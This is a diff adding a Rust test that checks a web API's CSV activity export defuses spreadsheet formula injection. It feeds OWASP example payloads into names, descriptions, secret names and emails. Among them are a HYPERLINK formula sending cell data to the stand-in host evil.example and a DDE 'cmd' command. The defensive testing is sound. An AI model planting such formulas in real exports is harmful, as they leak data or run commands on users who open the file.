@@ -398,3 +398,103 @@ async fn a_failed_change_leaves_no_record_and_a_successful_one_exactly_one() {
     assert_eq!(refused.status(), StatusCode::FORBIDDEN);
     assert_eq!(app.activity(&narrow).await, before);
 }
+
+/// Cell texts a spreadsheet would run as a formula (OWASP's CSV injection examples).
+const FORMULAS: [&str; 4] = [
+    r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+];
+
+/// How a CSV cell must show a text value: with a `'` before a formula's first character.
+fn defused(value: &str) -> String {
+    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{value}")
+    } else {
+        value.to_string()
+    }
+}
+
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused() {
+    let app = TestApp::spawn().await;
+    let token = app.admin_token().await;
+    let cluster = app.create_cluster(&token, "plain").await;
+    let patch = |body: Value| {
+        let path = format!("/clusters/{cluster}");
+        let app = &app;
+        let token = &token;
+        async move {
+            let response = app.call(Method::PATCH, &path, token, Some(body)).await;
+            assert_eq!(response.status(), StatusCode::NO_CONTENT);
+        }
+    };
+    // Names land in entityAttributeValueFrom/To, one rename after another.
+    for name in FORMULAS {
+        patch(json!({ "name": name })).await;
+    }
+    // Descriptions may also start with a tab or a carriage return.
+    for description in FORMULAS.iter().copied().chain(["\tTAB", "\rCR"]) {
+        patch(json!({ "description": description })).await;
+    }
+    // Secret names and member emails land in entityId.
+    let secret_names = [
+        r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
+        "+cmd|'/C'!A0",
+        "-2+3",
+        "@SUM(1)",
+    ];
+    for name in secret_names {
+        let response = app
+            .call(
+                Method::POST,
+                &format!("/clusters/{cluster}/secrets"),
+                &token,
+                Some(json!({"secretName": name, "secretValue": "v"})),
+            )
+            .await;
+        assert_eq!(response.status(), StatusCode::NO_CONTENT, "{name}");
+    }
+    for email in ["=1+2@example.com", "+cmd@example.com", "-2+3@example.com"] {
+        let response = app
+            .call(
+                Method::POST,
+                &format!("/members/{}", email.replace('+', "%2B")),
+                &token,
+                Some(json!({"orgRoles": ["developer"]})),
+            )
+            .await;
+        assert_eq!(response.status(), StatusCode::NO_CONTENT, "{email}");
+    }
+
+    // The JSON activity shows the values as they are.
+    let events = app.activity(&token).await;
+    for value in FORMULAS {
+        assert!(
+            events.iter().any(|e| e["entityAttributeValueTo"] == value),
+            "{value} in the JSON activity"
+        );
+    }
+
+    let csv = app.get("/activity/csv", &token).await.text().await.unwrap();
+    let rows = parse_csv(&csv);
+    assert_eq!(rows.len() - 1, events.len());
+    let header = &rows[0];
+    let mut defused_cells = 0;
+    for (row, event) in rows[1..].iter().zip(&events) {
+        for (name, cell) in header.iter().zip(row) {
+            let expected = match &event[name.as_str()] {
+                Value::Null => String::new(),
+                Value::String(s) => defused(s),
+                other => other.to_string(),
+            };
+            assert_eq!(cell, &expected, "{name} of {event}");
+            if cell.starts_with('\'') {
+                defused_cells += 1;
+            }
+        }
+    }
+    // Renames: 4 to and 3 from; descriptions: 6 to and 5 from; 4 secrets; 3 members.
+    assert_eq!(defused_cells, 4 + 3 + 6 + 5 + 4 + 3, "{csv}");
+}
